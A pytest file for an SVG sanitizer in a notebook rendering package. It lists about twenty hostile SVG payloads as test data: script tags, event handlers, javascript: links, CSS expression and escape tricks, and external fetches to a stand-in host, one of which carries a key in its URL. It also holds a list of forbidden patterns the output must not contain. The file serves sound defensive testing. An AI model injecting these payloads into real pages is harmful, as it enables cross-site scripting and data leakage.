"""The SVG sanitizer against hostile input: nothing that runs code or leaves the document survives."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest

from glm_nb.render import Artifact, ArtifactError, sanitize_svg

HOSTILE = {
    "script element": '<svg><script>alert(1)</script><circle r="5"/></svg>',
    "namespaced script": '<svg xmlns="http://www.w3.org/2000/svg"><svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script></svg>',
    "event handler": '<svg onload="alert(1)"><rect width="5" onclick="alert(2)" onmouseover="x()"/></svg>',
    "foreignObject": '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject></svg>',
    "javascript link": '<svg><a href="javascript:alert(1)"><text>click</text></a></svg>',
    "xlink javascript": '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="javascript:alert(1)"/></svg>',
    "external use": '<svg><use href="https://evil.example/sprite.svg#a"/></svg>',
    "external image": '<svg><image href="https://evil.example/track.png"/></svg>',
    "animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "set element": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "style sheet import": "<svg><style>@import url(https://evil.example/a.css);</style></svg>",
    "external url fill": '<svg><rect fill="url(https://evil.example/x.svg#g)"/></svg>',
    "style url": '<svg><rect style="fill: red; background-image: url(https://evil.example/x.png)"/></svg>',
    "style expression": '<svg><rect style="width: expression(alert(1))"/></svg>',
    "css escape": '<svg><rect style="fill: u\\72l(https://evil.example/)"/></svg>',
    "data url filter": '<svg><rect filter="url(data:image/svg+xml;base64,AAAA)"/></svg>',
    "iframe": '<svg><iframe src="https://evil.example"/></svg>',
    "mask image-set": "<svg><rect mask=\"image-set('https://evil.example/x?d=KEY' 1x)\"/></svg>",
    "style mask image-set": "<svg><rect style=\"mask: -webkit-image-set('https://evil.example/x' 1x)\"/></svg>",
    "style mask image": "<svg><rect style=\"mask: image('https://evil.example/x.png')\"/></svg>",
    "processing instruction": '<?xml-stylesheet href="https://evil.example/a.xsl"?><svg><circle r="1"/></svg>',
}

FORBIDDEN = ("script", "onload", "onclick", "onmouseover", "foreignobject", "javascript:", "evil.example",
             "animate", "<set", "expression(", "<style", "iframe", "\\72", "data:")  # fmt: skip


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_svg_loses_everything_dangerous(name):
    clean = sanitize_svg(HOSTILE[name])

    lowered = clean.markup.lower()
    assert not [bad for bad in FORBIDDEN if bad in lowered]
    ET.fromstring(clean.markup)  # still well-formed


@pytest.mark.parametrize("name", ["script element", "event handler", "foreignObject", "external url fill"])
def test_what_was_removed_is_reported(name):
    assert sanitize_svg(HOSTILE[name]).removed


def test_a_benign_drawing_keeps_its_shapes_gradients_and_local_references():
    source = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="100">'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>'
        '<circle cx="50" cy="50" r="40" fill="url(#g)" style="stroke: black; stroke-width: 2"/>'
        '<use href="#g"/><text x="10" y="20" font-size="12">Hello &amp; 你好</text></svg>'
    )

    clean = sanitize_svg(source)

    assert clean.removed == ()
    root = ET.fromstring(clean.markup)
    tags = [el.tag.rpartition("}")[2] for el in root.iter()]
    assert tags == ["svg", "defs", "linearGradient", "stop", "circle", "use", "text"]
    assert root.find("{http://www.w3.org/2000/svg}circle").get("fill") == "url(#g)"
    assert "Hello &amp; 你好" in clean.markup


def test_text_after_a_dropped_element_is_kept():
    clean = sanitize_svg("<svg><text>a<script>x</script>b</text></svg>")

    assert ET.fromstring(clean.markup).find("{http://www.w3.org/2000/svg}text").text == "ab"


@pytest.mark.parametrize(
    "source, message",
    [
        ("<svg><rect></svg>", "not well-formed"),
        ('<!DOCTYPE svg [<!ENTITY x "boom">]><svg>&x;</svg>', "DOCTYPE"),
        ("<html><body/></html>", "Expected an <svg>"),
    ],
)
def test_unusable_svg_is_refused_with_a_reason(source, message):
    with pytest.raises(ArtifactError, match=message):
        sanitize_svg(source)


def test_a_drawing_takes_up_none_of_the_pages_own_css_classes():
    # the sheets a class could name are dropped, so a class only picks up the page's CSS: JupyterLab's jp-Dialog is
    # a full-window overlay, which a drawing inline in the page (the chat panel, the HTML fallback) would become
    clean = sanitize_svg('<svg class="jp-Dialog lm-Widget"><rect class="a" width="5" height="5"/></svg>')

    assert "class" not in clean.markup
    assert clean.removed == ("attribute class on <svg>", "attribute class on <rect>")


def test_an_inline_drawing_is_clipped_to_its_own_box():
    # `transform` draws a drawing's own shapes, but on the root it could move or scale the drawing over the page
    page = Artifact.from_block("svg", '<svg style="transform: translate(-400px, -300px) scale(20)"></svg>').html()

    assert page.startswith('<div class="glm-nb-svg" style="overflow:hidden;contain:paint"><svg')
